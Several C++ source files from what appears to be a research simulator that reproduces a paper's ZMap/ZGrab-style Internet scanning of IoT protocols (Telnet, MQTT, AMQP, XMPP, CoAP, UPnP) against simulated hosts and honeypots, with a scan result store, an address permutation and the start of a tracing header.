  sweep->ranges.reserve(sweep->config.targets.size());
  sweep->ends.reserve(sweep->config.targets.size());
  for (const auto& target : sweep->config.targets) {
    sweep->ranges.push_back({target.base().value(), target.size()});
    total += target.size();
    sweep->ends.push_back(total);
  }
  sweep->permutation =
      std::make_unique<AddressPermutation>(total, sweep->config.seed);

  if (proto::is_udp(sweep->config.protocol)) {
    // One source port per sweep; responses are matched by source address
    // (the custom-script UDP methodology of §3.1.1). The port must be
    // unique among live sweeps: two sweeps sharing a port would mean the
    // second bind() replaces the first sweep's response handler, and
    // whichever finished first would unbind the other's live handler.
    sweep->udp_port = allocate_udp_source_port(sweep->config.seed);
    std::weak_ptr<Sweep> weak = sweep;
    udp().bind(sweep->udp_port, [weak](const net::Datagram& datagram) {
      const auto sweep = weak.lock();
      if (!sweep) return;
      const auto it = sweep->udp_waiting.find(datagram.src.value());
      if (it == sweep->udp_waiting.end()) return;
      it->second += util::to_string(datagram.payload);
    });
  }

  pump(std::move(sweep));
}

std::uint16_t Scanner::allocate_udp_source_port(std::uint64_t seed) {
  // Seed-derived starting point inside [50000, 60000), then linear probe to
  // the first port with no live handler. Ports are released by finish_probe
  // when a sweep completes, so exhaustion would need 10,000 concurrent UDP
  // sweeps on one scanner host.
  const auto offset = static_cast<std::uint16_t>(seed % 10'000);
  for (std::uint32_t step = 0; step < 10'000; ++step) {
    const auto port =
        static_cast<std::uint16_t>(50'000 + (offset + step) % 10'000);
    if (!udp().bound(port)) return port;
  }
  return 0;  // unreachable in practice; 0 means "no port" downstream
}

void Scanner::pump(std::shared_ptr<Sweep> sweep) {
  for (std::uint32_t i = 0; i < sweep->config.batch_size; ++i) {
    const auto index = sweep->permutation->next();
    if (!index) {
      sweep->exhausted = true;
      if (sweep->outstanding == 0) finish_probe(sweep);  // nothing in flight
      return;
    }
    const util::Ipv4Addr target = sweep->address_at(*index);
    if (sweep->blocked(target)) continue;
    probe(sweep, target);
  }
  sim().after(sweep->config.tick, [this, sweep] { pump(sweep); });
}

void Scanner::probe(std::shared_ptr<Sweep> sweep, util::Ipv4Addr target) {
  ++probes_sent_;
  db_->note_probe();
  metrics().probes.inc();
  sweep->probes_by_proto.inc();
  const auto ports = proto::protocol_ports(sweep->config.protocol);
  // Mint one causal id per probe (covering both ports of a multi-port
  // protocol) and keep it ambient while the probe traffic is issued, so
  // everything downstream — connect, banner exchange, honeypot log entry —
  // carries the id of this probe.
  const std::uint64_t trace_id = obs::mint_trace_id();
  const obs::TraceContext trace_context(trace_id);
  obs::trace_event(obs::TraceEventType::kProbe, sim().now(), trace_id,
                   address().value(), target.value(), ports.front(),
                   static_cast<std::uint8_t>(obs::TraceProbeOrigin::kScanner),
                   static_cast<std::uint8_t>(sweep->config.protocol));
  // One outstanding entry — and exactly one booked outcome — per target,
  // however many ports the protocol probes.
  ++sweep->outstanding;
  if (proto::is_udp(sweep->config.protocol)) {
    probe_udp(sweep, target, ports.front(), /*attempt=*/1);
  } else {
    // Multi-port protocols (Telnet 23+2323, XMPP 5222+5269) probe each port.
    auto outcome = std::make_shared<TargetOutcome>();
    outcome->pending = static_cast<int>(ports.size());
    for (const auto port : ports) {
      probe_tcp(sweep, outcome, target, port, /*attempt=*/1);
    }
  }
}

void Scanner::schedule_retry(std::shared_ptr<Sweep> sweep,
                             util::Ipv4Addr target, std::uint16_t port,
                             std::uint32_t attempt,
                             std::function<void()> resend) {
  db_->note_retries();
  metrics().retries.inc();
  const std::uint64_t probe_trace_id = obs::current_trace_id();
  sim().after(retry_delay(sweep->config, target, port, attempt),
              [probe_trace_id, resend = std::move(resend)] {
                // The retry re-sends under the original probe's causal id:
                // it is the same probe, trying again.
                const obs::TraceContext trace_context(probe_trace_id);
                resend();
              });
}

void Scanner::port_resolved(std::shared_ptr<Sweep> sweep,
                            std::shared_ptr<TargetOutcome> outcome) {
  if (--outcome->pending > 0) return;
  resolve_target(std::move(sweep), outcome->responsive, outcome->refused);
}

void Scanner::resolve_target(std::shared_ptr<Sweep> sweep, bool responsive,
                             bool refused) {
  if (responsive) {
    db_->note_responsive();
    metrics().responsive.inc();
  } else if (refused) {
    db_->note_refused();
    metrics().refused.inc();
  } else {
    db_->note_unresolved();
    metrics().unresolved.inc();
  }
  finish_probe(std::move(sweep));
}

void Scanner::probe_tcp(std::shared_ptr<Sweep> sweep,
                        std::shared_ptr<TargetOutcome> outcome,
                        util::Ipv4Addr target, std::uint16_t port,
                        std::uint32_t attempt) {
  const proto::Protocol protocol = sweep->config.protocol;
  // The probe's causal id, re-published around retries: the connect
  // timeout fires from a bare timer where no context is ambient.
  const std::uint64_t probe_trace_id = obs::current_trace_id();

  tcp().connect_ex(
      target, port,
      [this, sweep, outcome, target, port, protocol, attempt,
       probe_trace_id](net::TcpConnection* conn, net::ConnectOutcome result) {
        if (conn == nullptr) {  // refused, timed out, or filtered
          if (result == net::ConnectOutcome::kTimeout &&
              attempt < sweep->config.max_attempts) {
            // A timeout is indistinguishable from loss: try again. A
            // refusal is an answer and resolves the port immediately.
            const obs::TraceContext trace_context(probe_trace_id);
            schedule_retry(sweep, target, port, attempt,
                           [this, sweep, outcome, target, port, attempt] {
                             probe_tcp(sweep, outcome, target, port,
                                       attempt + 1);
                           });
            return;
          }
          if (result == net::ConnectOutcome::kRefused) {
            outcome->refused = true;
          }
          port_resolved(sweep, outcome);
          return;
        }
        outcome->responsive = true;
        // ZGrab stage: optional protocol-specific stimulus, then collect
        // whatever arrives during the banner window.
        auto collected = std::make_shared<std::string>();
        switch (protocol) {
          case proto::Protocol::kMqtt: {
            proto::mqtt::ConnectPacket connect;
            connect.client_id = "zgrab";
            conn->send(proto::mqtt::encode_connect(connect));
            break;
          }
          case proto::Protocol::kAmqp:
            conn->send(proto::amqp::protocol_header());
            break;
          case proto::Protocol::kXmpp:
            conn->send_text(proto::xmpp::stream_open("zgrab.scanner"));
            break;
          default:
            break;  // Telnet and friends: passive banner grab
        }

        conn->on_data = [collected, protocol](
                            net::TcpConnection&,
                            std::span<const std::uint8_t> data) {
          // Decode binary-framed protocols into the textual banner forms
          // the misconfiguration rules match on (Table 2).
          switch (protocol) {
            case proto::Protocol::kMqtt: {
              const auto header = proto::mqtt::decode_fixed_header(
                  std::span<const std::uint8_t>(data));
              if (header &&
                  header->type == proto::mqtt::PacketType::kConnack &&
                  data.size() >= header->header_size + 2) {
                const auto code = data[header->header_size + 1];
                *collected += "MQTT Connection Code:" + std::to_string(code);
              }
              break;
            }
            case proto::Protocol::kAmqp: {
              std::size_t consumed = 0;
              const auto frame = proto::amqp::decode_frame(
                  std::span<const std::uint8_t>(data), &consumed);
              if (frame) {
                const auto start = proto::amqp::decode_start(frame->payload);
                if (start) {
                  *collected += "Product: " + start->product +
                                " Version: " + start->version +
                                " Mechanisms:";
                  for (const auto& mechanism : start->mechanisms) {
                    *collected += " " + mechanism;
                  }
                }
              }
              break;
            }
            default:
              *collected += util::to_string(data);
              break;
          }
        };

        // Resolve the probe at the end of the banner window.
        const net::ConnKey key{conn->local_port(), conn->remote_addr(),
                               conn->remote_port()};
        sim().after(sweep->config.banner_wait,
                    [this, sweep, outcome, target, port, collected, key] {
                      net::TcpConnection* live = tcp().lookup(key);
                      if (live != nullptr) live->abort();
                      ScanRecord record;
                      record.host = target;
                      record.port = port;
                      record.protocol = sweep->config.protocol;
                      record.banner = *collected;
                      record.when = sim().now();
                      store(*sweep, std::move(record));
                      port_resolved(sweep, outcome);
                    });
      },
      sweep->config.connect_timeout);
}

void Scanner::send_udp_stimulus(Sweep& sweep, util::Ipv4Addr target,
                                std::uint16_t port) {
  switch (sweep.config.protocol) {
    case proto::Protocol::kCoap: {
      const auto request = proto::coap::make_discovery_request(
          static_cast<std::uint16_t>(target.value() & 0xffff));
      udp().send(target, port, proto::coap::encode(request), sweep.udp_port);
      break;
    }
    case proto::Protocol::kUpnp: {
      proto::ssdp::MSearch search;
      search.search_target = "upnp:rootdevice";
      udp().send(target, port, proto::ssdp::encode_msearch(search),
                 sweep.udp_port);
      break;
    }
    default:
      break;
  }
}

void Scanner::probe_udp(std::shared_ptr<Sweep> sweep, util::Ipv4Addr target,
                        std::uint16_t port, std::uint32_t attempt) {
  sweep->udp_waiting[target.value()];  // open collection slot
  // Captured for the deferred CoAP follow-up GET, which runs outside the
  // probe's ambient context.
  const std::uint64_t probe_trace_id = obs::current_trace_id();

  send_udp_stimulus(*sweep, target, port);

  sim().after(sweep->config.banner_wait,
              [this, sweep, target, port, probe_trace_id, attempt] {
    const auto it = sweep->udp_waiting.find(target.value());
    std::string raw = it == sweep->udp_waiting.end() ? "" : it->second;
    sweep->udp_waiting.erase(target.value());

    if (raw.empty()) {  // silent: lost, filtered, or genuinely not exposed
      if (attempt < sweep->config.max_attempts) {
        // UDP gives no refusal signal, so silence is retried like a TCP
        // timeout (re-sending the discovery stimulus, not the follow-up).
        const obs::TraceContext trace_context(probe_trace_id);
        schedule_retry(sweep, target, port, attempt,
                       [this, sweep, target, port, attempt] {
                         probe_udp(sweep, target, port, attempt + 1);
                       });
        return;
      }
      resolve_target(sweep, /*responsive=*/false, /*refused=*/false);
      return;
    }

    if (sweep->config.protocol == proto::Protocol::kCoap) {
      // Decode the CoAP response into the textual response form of Table 3,
      // then follow up on a disclosed resource to distinguish full access
      // from a mere reflection resource.
      const auto message = proto::coap::decode(util::to_bytes(raw));
      std::string banner;
      if (message) {
        if (message->code == proto::coap::Code::kContent) {
          banner = "CoAP Resources " + util::to_string(message->payload);
        } else if (message->code == proto::coap::Code::kUnauthorized) {
          banner = "4.01 Unauthorized";
        } else {
          banner = "CoAP";
        }
      } else {
        banner = raw;
      }

      if (message && message->code == proto::coap::Code::kContent) {
        // Follow-up GET: admin resource if advertised, else the state
        // resource; the reply reveals the access level.
        const std::string payload = util::to_string(message->payload);
        const std::string follow_path = util::contains(payload, "<4/admin>") ||
                                                util::contains(payload, "admin")
                                            ? "admin"
                                            : "sensors/state";
        sweep->udp_waiting[target.value()];
        proto::coap::Message follow;
        follow.code = proto::coap::Code::kGet;
        follow.message_id =
            static_cast<std::uint16_t>((target.value() >> 8) & 0xffff);
        follow.set_uri_path(follow_path);
        {
          const obs::TraceContext trace_context(probe_trace_id);
          udp().send(target, port, proto::coap::encode(follow),
                     sweep->udp_port);
        }
        sim().after(sweep->config.banner_wait,
                    [this, sweep, target, port, banner] {
                      const auto follow_it =
                          sweep->udp_waiting.find(target.value());
                      std::string follow_raw = follow_it ==
                                                       sweep->udp_waiting.end()
                                                   ? ""
                                                   : follow_it->second;
                      sweep->udp_waiting.erase(target.value());
                      std::string full = banner;
                      const auto reply =
                          proto::coap::decode(util::to_bytes(follow_raw));
                      if (reply &&
                          reply->code == proto::coap::Code::kContent) {
                        full += "\n220 " + util::to_string(reply->payload);
                      } else if (reply) {
                        full += "\n4.01";
                      }
                      ScanRecord record;
                      record.host = target;
                      record.port = port;
                      record.protocol = proto::Protocol::kCoap;
                      record.banner = std::move(full);
                      record.when = sim().now();
                      store(*sweep, std::move(record));
                      resolve_target(sweep, /*responsive=*/true,
                                     /*refused=*/false);
                    });
        return;
      }

      ScanRecord record;
      record.host = target;
      record.port = port;
      record.protocol = proto::Protocol::kCoap;
      record.banner = std::move(banner);
      record.when = sim().now();
      store(*sweep, std::move(record));
      resolve_target(sweep, /*responsive=*/true, /*refused=*/false);
      return;
    }

    // UPnP: store the raw HTTPU response(s).
    ScanRecord record;
    record.host = target;
    record.port = port;
    record.protocol = sweep->config.protocol;
    record.banner = std::move(raw);
    record.when = sim().now();
    store(*sweep, std::move(record));
    resolve_target(sweep, /*responsive=*/true, /*refused=*/false);
  });
}

void Scanner::store(Sweep& sweep, ScanRecord record) {
  metrics().records.inc();
  sweep.responses_by_proto.inc();
  if (!record.banner.empty()) metrics().banner_grabs.inc();
  db_->add(std::move(record));
}

void Scanner::finish_probe(std::shared_ptr<Sweep> sweep) {
  if (sweep->outstanding > 0) --sweep->outstanding;
  if (sweep->exhausted && sweep->outstanding == 0 && !sweep->finished) {
    sweep->finished = true;
    if (sweep->udp_port != 0) udp().unbind(sweep->udp_port);
    if (sweep->done) sweep->done();
  }
}

}  // namespace ofh::scanner
