// ZMap/ZGrab-style Internet scanner. Sweeps target ranges in permuted order
// with rate limiting and blocklists; per-protocol application probes follow
// up on responsive hosts to collect banners (ZGrab) or trigger responses
// (custom UDP scripts for CoAP "/.well-known/core" and SSDP "ssdp:discover"),
// mirroring the paper's §3.1.1 methodology.
#pragma once

#include <functional>
#include <memory>
#include <vector>

#include "net/host.h"
#include "scanner/permutation.h"
#include "scanner/scan_db.h"
#include "util/ipv4.h"

namespace ofh::scanner {

struct ScanConfig {
  proto::Protocol protocol = proto::Protocol::kTelnet;
  std::vector<util::Cidr> targets;
  std::vector<util::Cidr> blocklist;
  std::uint64_t seed = 1;
  // Rate limiting: probes per batch, one batch per tick.
  std::uint32_t batch_size = 256;
  sim::Duration tick = sim::msec(50);
  // How long to collect application bytes after connecting (TCP), or to
  // await a UDP response.
  sim::Duration banner_wait = sim::seconds(2);
  sim::Duration connect_timeout = sim::seconds(3);
  // Per-port probe retries (ZMap retries lost probes; so do we). A connect
  // timeout (TCP) or a silent response window (UDP) is retried until the
  // port has been tried max_attempts times, waiting
  //   retry_backoff * 2^(attempt-1) + jitter
  // between attempts, where jitter is a deterministic hash of
  // (seed, target, port, attempt) in [0, retry_jitter). Refusals are
  // answers, not losses, and are never retried. The default of 1 (no
  // retries) keeps fault-free runs byte-identical to the pre-retry
  // goldens.
  std::uint32_t max_attempts = 1;
  sim::Duration retry_backoff = sim::msec(500);
  sim::Duration retry_jitter = sim::msec(100);
};

// ZMap's default blocklist equivalent: reserved/special-purpose ranges.
std::vector<util::Cidr> default_blocklist();

class Scanner : public net::Host {
 public:
  using DoneCallback = std::function<void()>;

  Scanner(util::Ipv4Addr addr, ScanDb& db) : net::Host(addr), db_(&db) {}

  // Starts one protocol sweep; done fires when all probes have resolved.
  // Multiple scans may be issued on the same scanner host, sequentially or
  // concurrently: each UDP sweep binds its own ephemeral source port.
  void start(ScanConfig config, DoneCallback done);

  std::uint64_t probes_sent() const { return probes_sent_; }

 private:
  struct Sweep;
  // Aggregates one target's per-port fates (multi-port protocols probe two
  // ports per target) into the single outcome the accounting identity
  // probes_sent == responsive + refused + unresolved counts.
  struct TargetOutcome {
    int pending = 0;
    bool responsive = false;
    bool refused = false;
  };

  std::uint16_t allocate_udp_source_port(std::uint64_t seed);
  void pump(std::shared_ptr<Sweep> sweep);
  void probe(std::shared_ptr<Sweep> sweep, util::Ipv4Addr target);
  // Single point every resolved probe result funnels through: updates the
  // obs hit-rate counters and appends to the scan DB.
  void store(Sweep& sweep, ScanRecord record);
  void probe_tcp(std::shared_ptr<Sweep> sweep,
                 std::shared_ptr<TargetOutcome> outcome, util::Ipv4Addr target,
                 std::uint16_t port, std::uint32_t attempt);
  void probe_udp(std::shared_ptr<Sweep> sweep, util::Ipv4Addr target,
                 std::uint16_t port, std::uint32_t attempt);
  void send_udp_stimulus(Sweep& sweep, util::Ipv4Addr target,
                         std::uint16_t port);
  // Counts a retry and re-runs `resend` after the deterministic backoff,
  // re-publishing the probe's original causal id.
  void schedule_retry(std::shared_ptr<Sweep> sweep, util::Ipv4Addr target,
                      std::uint16_t port, std::uint32_t attempt,
                      std::function<void()> resend);
  // Port-level completion: folds the port's fate into the target outcome
  // and resolves the target when its last port reports.
  void port_resolved(std::shared_ptr<Sweep> sweep,
                     std::shared_ptr<TargetOutcome> outcome);
  // Target-level completion: books exactly one outcome per probed target.
  void resolve_target(std::shared_ptr<Sweep> sweep, bool responsive,
                      bool refused);
  void finish_probe(std::shared_ptr<Sweep> sweep);

  ScanDb* db_;
  std::uint64_t probes_sent_ = 0;
};

}  // namespace ofh::scanner
