// ZMap/ZGrab-style Internet scanner. Sweeps target ranges in permuted order
// with rate limiting and blocklists; per-protocol application probes follow
// up on responsive hosts to collect banners (ZGrab) or trigger responses
// (custom UDP scripts for CoAP "/.well-known/core" and SSDP "ssdp:discover"),
// mirroring the paper's §3.1.1 methodology.
#pragma once

#include <functional>
#include <memory>
#include <vector>

#include "net/host.h"
#include "scanner/permutation.h"
#include "scanner/scan_db.h"
#include "util/ipv4.h"

namespace ofh::scanner {

struct ScanConfig {
  proto::Protocol protocol = proto::Protocol::kTelnet;
  std::vector<util::Cidr> targets;
  std::vector<util::Cidr> blocklist;
  std::uint64_t seed = 1;
  // Rate limiting: probes per batch, one batch per tick.
  std::uint32_t batch_size = 256;
  sim::Duration tick = sim::msec(50);
  // How long to collect application bytes after connecting (TCP), or to
  // await a UDP response.
  sim::Duration banner_wait = sim::seconds(2);
  sim::Duration connect_timeout = sim::seconds(3);
};

// ZMap's default blocklist equivalent: reserved/special-purpose ranges.
std::vector<util::Cidr> default_blocklist();

class Scanner : public net::Host {
 public:
  using DoneCallback = std::function<void()>;

  Scanner(util::Ipv4Addr addr, ScanDb& db) : net::Host(addr), db_(&db) {}

  // Starts one protocol sweep; done fires when all probes have resolved.
  // Multiple scans may be issued on the same scanner host, sequentially or
  // concurrently: each UDP sweep binds its own ephemeral source port.
  void start(ScanConfig config, DoneCallback done);

  std::uint64_t probes_sent() const { return probes_sent_; }

 private:
  struct Sweep;

  std::uint16_t allocate_udp_source_port(std::uint64_t seed);
  void pump(std::shared_ptr<Sweep> sweep);
  void probe(std::shared_ptr<Sweep> sweep, util::Ipv4Addr target);
  // Single point every resolved probe result funnels through: updates the
  // obs hit-rate counters and appends to the scan DB.
  void store(Sweep& sweep, ScanRecord record);
  void probe_tcp(std::shared_ptr<Sweep> sweep, util::Ipv4Addr target,
                 std::uint16_t port);
  void probe_udp(std::shared_ptr<Sweep> sweep, util::Ipv4Addr target,
                 std::uint16_t port);
  void finish_probe(std::shared_ptr<Sweep> sweep);

  ScanDb* db_;
  std::uint64_t probes_sent_ = 0;
};

}  // namespace ofh::scanner
