// Address-space permutation for stateless scanning. ZMap iterates targets as
// a random permutation via a cyclic multiplicative group mod a prime > 2^32;
// we use the equivalent full-period LCG construction (Hull–Dobell) over the
// next power of two, rejecting out-of-range values. Same property: every
// target visited exactly once, in an order decorrelated from address order,
// with O(1) state.
#pragma once

#include <cstdint>
#include <optional>

#include "util/rng.h"

namespace ofh::scanner {

class AddressPermutation {
 public:
  // Permutes [0, size). seed selects the permutation.
  AddressPermutation(std::uint64_t size, std::uint64_t seed) : size_(size) {
    modulus_ = 1;
    while (modulus_ < size_) modulus_ <<= 1;
    const std::uint64_t h1 = util::splitmix64(seed);
    const std::uint64_t h2 = util::splitmix64(seed ^ 0x5851f42d4c957f2dULL);
    if (modulus_ < 64) {
      // Tiny sizes degenerate under the masked derivation below: with
      // modulus <= 4 the multiplier is forced to 5 ≡ 1 (mod 4), so the LCG
      // collapses to a pure increment walk (a near-identity permutation).
      // Widen the cycle to 64 states (rejection keeps outputs in range)
      // and fold the full hash words so every seed bit reaches the
      // parameters instead of only the low masked bits.
      modulus_ = 64;
      const std::uint64_t f1 = h1 ^ (h1 >> 32) ^ (h1 >> 16) ^ (h1 >> 8);
      const std::uint64_t f2 = h2 ^ (h2 >> 32) ^ (h2 >> 16) ^ (h2 >> 8);
      multiplier_ = ((f1 & 63) & ~std::uint64_t{3}) | 1 | 4;
      increment_ = (f2 & 63) | 1;
      state_ = (h1 >> 7) & 63;
    } else {
      // Hull–Dobell: c odd, a ≡ 1 (mod 4) gives full period over 2^k.
      multiplier_ = ((h1 & (modulus_ - 1)) & ~std::uint64_t{3}) | 1 | 4;
      increment_ = (h2 & (modulus_ - 1)) | 1;
      state_ = h1 >> 7 & (modulus_ - 1);
    }
    first_ = state_;
  }

  // Next index in [0, size), or nullopt once the cycle completes.
  std::optional<std::uint64_t> next() {
    while (emitted_ < modulus_) {
      const std::uint64_t value = state_;
      state_ = (state_ * multiplier_ + increment_) & (modulus_ - 1);
      ++emitted_;
      if (value < size_) return value;
    }
    return std::nullopt;
  }

  std::uint64_t size() const { return size_; }

 private:
  std::uint64_t size_;
  std::uint64_t modulus_ = 0;
  std::uint64_t multiplier_ = 0;
  std::uint64_t increment_ = 0;
  std::uint64_t state_ = 0;
  std::uint64_t first_ = 0;
  std::uint64_t emitted_ = 0;
};

}  // namespace ofh::scanner
