// Scan result store: the database the paper keeps banners and responses in
// for later classification (§3.1). One record per responsive (host, port,
// protocol); raw response bytes are preserved (IAC sequences and all) since
// honeypot fingerprinting matches on exact bytes.
#pragma once

#include <cstdint>
#include <map>
#include <set>
#include <string>
#include <vector>

#include "proto/service.h"
#include "sim/time.h"
#include "util/ipv4.h"

namespace ofh::scanner {

struct ScanRecord {
  util::Ipv4Addr host;
  std::uint16_t port = 0;
  proto::Protocol protocol = proto::Protocol::kTelnet;
  std::string banner;  // raw application-layer response
  sim::Time when = 0;
};

class ScanDb {
 public:
  void add(ScanRecord record) {
    hosts_by_protocol_[record.protocol].insert(record.host.value());
    records_.push_back(std::move(record));
  }

  const std::vector<ScanRecord>& records() const { return records_; }
  std::size_t size() const { return records_.size(); }

  std::vector<const ScanRecord*> for_protocol(
      proto::Protocol protocol) const {
    std::vector<const ScanRecord*> out;
    for (const auto& record : records_) {
      if (record.protocol == protocol) out.push_back(&record);
    }
    return out;
  }

  // Unique responsive hosts per protocol (paper Table 4 is counted this way).
  std::uint64_t unique_hosts(proto::Protocol protocol) const {
    const auto it = hosts_by_protocol_.find(protocol);
    return it == hosts_by_protocol_.end() ? 0 : it->second.size();
  }

  std::uint64_t unique_hosts_total() const {
    std::set<std::uint32_t> all;
    for (const auto& [protocol, hosts] : hosts_by_protocol_) {
      all.insert(hosts.begin(), hosts.end());
    }
    return all.size();
  }

  // Probe accounting (coverage/ethics reporting).
  void note_probe() { ++probes_sent_; }
  void note_probes(std::uint64_t n) { probes_sent_ += n; }
  std::uint64_t probes_sent() const { return probes_sent_; }

  // Per-target outcome accounting: every probed target resolves to exactly
  // one of responsive / refused / unresolved (priority responsive > refused
  // > unresolved across a multi-port protocol's ports), so
  //   probes_sent == responsive + refused + unresolved
  // once every sweep feeding this DB has drained (tests/faults_test.cpp).
  // Retries count per-port re-sends beyond the first attempt. The n-ary
  // forms let the parallel scan layer fold a shard-private DB's totals in.
  void note_responsive(std::uint64_t n = 1) { responsive_ += n; }
  void note_refused(std::uint64_t n = 1) { refused_ += n; }
  void note_unresolved(std::uint64_t n = 1) { unresolved_ += n; }
  void note_retries(std::uint64_t n = 1) { retries_ += n; }
  std::uint64_t responsive() const { return responsive_; }
  std::uint64_t refused() const { return refused_; }
  std::uint64_t unresolved() const { return unresolved_; }
  std::uint64_t retries() const { return retries_; }

 private:
  std::vector<ScanRecord> records_;
  std::map<proto::Protocol, std::set<std::uint32_t>> hosts_by_protocol_;
  std::uint64_t probes_sent_ = 0;
  std::uint64_t responsive_ = 0;
  std::uint64_t refused_ = 0;
  std::uint64_t unresolved_ = 0;
  std::uint64_t retries_ = 0;
};

}  // namespace ofh::scanner
