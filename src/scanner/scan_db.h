// Scan result store: the database the paper keeps banners and responses in
// for later classification (§3.1). One record per responsive (host, port,
// protocol); raw response bytes are preserved (IAC sequences and all) since
// honeypot fingerprinting matches on exact bytes.
//
// Layout is scale-oriented: records live in one append-only arena and
// per-protocol host sets are sorted runs (append-then-sort/unique on first
// query) instead of node-based std::set. At paper scale a sweep lands
// millions of records; a red-black tree insert per record was ~100 bytes of
// node overhead plus a cache miss each, while the sorted run costs 4 bytes
// amortized and one O(n log n) pass when the report layer finally asks.
#pragma once

#include <algorithm>
#include <cstdint>
#include <string>
#include <vector>

#include "proto/service.h"
#include "sim/time.h"
#include "util/ipv4.h"

namespace ofh::scanner {

struct ScanRecord {
  util::Ipv4Addr host;
  std::uint16_t port = 0;
  proto::Protocol protocol = proto::Protocol::kTelnet;
  std::string banner;  // raw application-layer response
  sim::Time when = 0;
};

class ScanDb {
 public:
  // Reserve-ahead for sharded sweeps: a caller that can bound the record
  // volume (core/study.cpp sums its shard sizes before the merge fold)
  // pre-sizes the arena once so the fold never reallocates mid-merge.
  // tests/parallel_test.cpp asserts capacity stability across the merge.
  void reserve(std::size_t records) { records_.reserve(records); }
  std::size_t records_capacity() const { return records_.capacity(); }

  void add(ScanRecord record) {
    host_run(record.protocol).push_back(record.host.value());
    records_.push_back(std::move(record));
  }

  const std::vector<ScanRecord>& records() const { return records_; }
  std::size_t size() const { return records_.size(); }

  std::vector<const ScanRecord*> for_protocol(
      proto::Protocol protocol) const {
    std::vector<const ScanRecord*> out;
    for (const auto& record : records_) {
      if (record.protocol == protocol) out.push_back(&record);
    }
    return out;
  }

  // Unique responsive hosts per protocol (paper Table 4 is counted this
  // way). Sorts the protocol's run in place on first query after an append;
  // queries between appends stay O(1).
  std::uint64_t unique_hosts(proto::Protocol protocol) const {
    return sorted_run(protocol).size();
  }

  std::uint64_t unique_hosts_total() const {
    std::vector<std::uint32_t> all;
    std::size_t total = 0;
    for (const auto& run : host_runs_) total += run.size();
    all.reserve(total);
    for (std::size_t i = 0; i < kProtocolSlots; ++i) {
      const auto& run = sorted_run(static_cast<proto::Protocol>(i));
      all.insert(all.end(), run.begin(), run.end());
    }
    std::sort(all.begin(), all.end());
    all.erase(std::unique(all.begin(), all.end()), all.end());
    return all.size();
  }

  // Probe accounting (coverage/ethics reporting).
  void note_probe() { ++probes_sent_; }
  void note_probes(std::uint64_t n) { probes_sent_ += n; }
  std::uint64_t probes_sent() const { return probes_sent_; }

  // Per-target outcome accounting: every probed target resolves to exactly
  // one of responsive / refused / unresolved (priority responsive > refused
  // > unresolved across a multi-port protocol's ports), so
  //   probes_sent == responsive + refused + unresolved
  // once every sweep feeding this DB has drained (tests/faults_test.cpp).
  // Retries count per-port re-sends beyond the first attempt. The n-ary
  // forms let the parallel scan layer fold a shard-private DB's totals in.
  void note_responsive(std::uint64_t n = 1) { responsive_ += n; }
  void note_refused(std::uint64_t n = 1) { refused_ += n; }
  void note_unresolved(std::uint64_t n = 1) { unresolved_ += n; }
  void note_retries(std::uint64_t n = 1) { retries_ += n; }
  std::uint64_t responsive() const { return responsive_; }
  std::uint64_t refused() const { return refused_; }
  std::uint64_t unresolved() const { return unresolved_; }
  std::uint64_t retries() const { return retries_; }

 private:
  // One run per Protocol enumerator; the tail entries (honeypot-side
  // protocols) usually stay empty and cost one empty vector each.
  static constexpr std::size_t kProtocolSlots =
      static_cast<std::size_t>(proto::Protocol::kS7) + 1;

  std::vector<std::uint32_t>& host_run(proto::Protocol protocol) {
    return host_runs_[static_cast<std::size_t>(protocol)];
  }

  // Lazily restores the run's sorted/deduplicated invariant. `sorted_`
  // tracks how much of the run the last sort covered; appends past that
  // watermark trigger a re-sort on the next query.
  const std::vector<std::uint32_t>& sorted_run(
      proto::Protocol protocol) const {
    const auto index = static_cast<std::size_t>(protocol);
    auto& run = host_runs_[index];
    if (sorted_[index] != run.size()) {
      std::sort(run.begin(), run.end());
      run.erase(std::unique(run.begin(), run.end()), run.end());
      sorted_[index] = run.size();
    }
    return run;
  }

  std::vector<ScanRecord> records_;
  mutable std::vector<std::uint32_t> host_runs_[kProtocolSlots];
  mutable std::size_t sorted_[kProtocolSlots] = {};
  std::uint64_t probes_sent_ = 0;
  std::uint64_t responsive_ = 0;
  std::uint64_t refused_ = 0;
  std::uint64_t unresolved_ = 0;
  std::uint64_t retries_ = 0;
};

}  // namespace ofh::scanner
