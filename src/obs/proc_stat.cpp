#include "obs/proc_stat.h"

#include <cstdlib>
#include <fstream>
#include <string>

namespace ofh::obs {

namespace {

// "VmRSS:     1234 kB" -> 1234 * 1024. procfs reports kB unconditionally.
std::uint64_t parse_kb_line(const std::string& line, std::size_t prefix_len) {
  const char* digits = line.c_str() + prefix_len;
  return static_cast<std::uint64_t>(std::strtoull(digits, nullptr, 10)) *
         1024u;
}

}  // namespace

ProcMemory read_proc_memory() {
  ProcMemory memory;
  std::ifstream status("/proc/self/status");
  std::string line;
  while (std::getline(status, line)) {
    if (line.rfind("VmRSS:", 0) == 0) {
      memory.rss_bytes = parse_kb_line(line, 6);
    } else if (line.rfind("VmHWM:", 0) == 0) {
      memory.vm_hwm_bytes = parse_kb_line(line, 6);
    }
    if (memory.rss_bytes != 0 && memory.vm_hwm_bytes != 0) break;
  }
  return memory;
}

}  // namespace ofh::obs
