// Deterministic causal tracing: the flight recorder under the aggregate
// metrics layer (obs/metrics.h). Where metrics answer "how many", traces
// answer "which probe caused which response, and what happened next on
// that session" — the per-event narrative behind the paper's multistage
// attack chains (Figure 9) and the scan x honeynet x telescope provenance
// join (Section 5.3).
//
// Event model: fixed-size typed TraceEvents (packet send/deliver/drop, TCP
// state transitions, probe issuance, honeypot session begin/command/end,
// telescope flowtuples, RSDoS backscatter, classifier verdicts), each
// stamped with sim-time and a 64-bit causal id. Probes *mint* an id; the id
// rides net::Packet::trace_id through every fabric hop, is adopted by the
// TCP connection the probe opens, and is re-published as the ambient
// TraceContext while the receiving host handles the packet — so honeypot
// event-log entries and telescope flowtuples carry the id of the probe
// that caused them, and a full request/response/attack chain can be
// reconstructed by id alone.
//
// Determinism contract (same sim/wall split as metrics): every event is
// stamped with sim-time, a *shard* id and a per-shard append sequence.
// Shard 0 is the coordinating thread's main simulation; the parallel scan
// layer runs each protocol sweep under a TraceShardScope with the sweep's
// job index + 1. A shard executes on exactly one thread, its event stream
// is a pure function of the simulation inputs, and merged() orders events
// by (time, shard, seq) — a total order — so the exported trace is
// byte-identical for scan_threads = 1/2/8/hardware (tests/parallel_test).
// Wall-clock time never enters a trace event.
//
// Flight-recorder memory bounds: each shard owns two fixed-capacity rings
// backed by a chunked arena — one for high-volume packet-level events, one
// for low-volume session-level events (sessions, verdicts) — so a packet
// flood cannot evict the attack-chain narrative. When a ring exceeds its
